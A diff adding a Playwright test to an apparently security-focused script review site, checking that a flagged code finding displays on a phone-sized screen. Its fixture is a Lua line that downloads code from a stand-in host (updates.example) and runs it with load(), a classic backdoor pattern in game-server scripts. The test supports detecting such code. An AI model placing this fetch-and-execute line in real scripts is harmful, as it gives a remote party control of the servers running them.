@@ -233,3 +233,19 @@ test('changes that cannot be loaded show an error, and Try Again loads them', as
 
   await expect(group(page, 'Removed 1')).toBeVisible()
 })
+
+test('the code of a new finding fits on a phone', async ({ page, request }) => {
+  const code = "PerformHttpRequest('https://updates.example/latest.lua', function(_, text) load(text)() end)"
+  const author = await registerUploader()
+  const script = await scriptWith(
+    author,
+    request,
+    archiveOf({ 'hud/fxmanifest.lua': manifest, 'hud/server/main.lua': 'print(1)' }),
+    archiveOf({ 'hud/fxmanifest.lua': manifest, 'hud/server/main.lua': code }),
+  )
+  await page.setViewportSize({ width: 390, height: 844 })
+  await page.goto(`/scripts/${script.id}/changes`)
+
+  await expect(main(page).getByText(code)).toBeVisible()
+  await expectNoViolations(page, [390])
+})
